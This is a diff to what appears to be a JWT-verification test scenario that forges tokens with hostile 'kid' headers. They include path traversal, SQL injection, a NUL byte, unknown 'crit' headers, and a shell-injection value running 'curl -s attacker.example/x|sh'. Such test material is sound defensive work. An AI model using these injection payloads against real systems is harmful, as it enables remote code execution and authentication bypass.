@@ -1,4 +1,4 @@
-import { createHmac, randomBytes } from 'node:crypto';
+import { createHmac } from 'node:crypto';
 import { fingerprint, ndjson, type Kit, type Scenario } from './kit.js';
 
 const T0 = 1773741600; // 2026-03-17T10:00:00Z
@@ -25,7 +25,7 @@ export async function scenario(kit: Kit): Promise<Scenario> {
   const x5c = await kit.sign('rsa-2', c('admin', 'x5c'), { kid: 'rsa-current', x5c: [certBytes] });
   const traversal = hmacToken({ kid: '../../../../../../dev/null' }, c('admin', 'kid-traversal'), '');
   const sqli = hmacToken({ kid: "x' UNION SELECT 'attacker-secret' --" }, c('admin', 'kid-sql'), 'attacker-secret');
-  const shell = hmacToken({ kid: 'k1$(curl -s attacker.example/x|sh)' }, c('admin', 'kid-shell'), randomBytes(8).toString('hex'));
+  const shell = hmacToken({ kid: 'k1$(curl -s attacker.example/x|sh)' }, c('admin', 'kid-shell'), 'whatever-the-lookup-returns');
   const nul = await kit.sign('rsa', c('bob', 'kid-nul'), { kid: 'rsa-current\u0000' });
   const critUnknown = unsignable({ alg: 'RS256', kid: 'rsa-current', crit: ['x-tenant'], 'x-tenant': 'acme' }, c('admin', 'crit-unknown'));
   const critEmpty = unsignable({ alg: 'RS256', kid: 'rsa-current', crit: [] }, c('admin', 'crit-empty'));
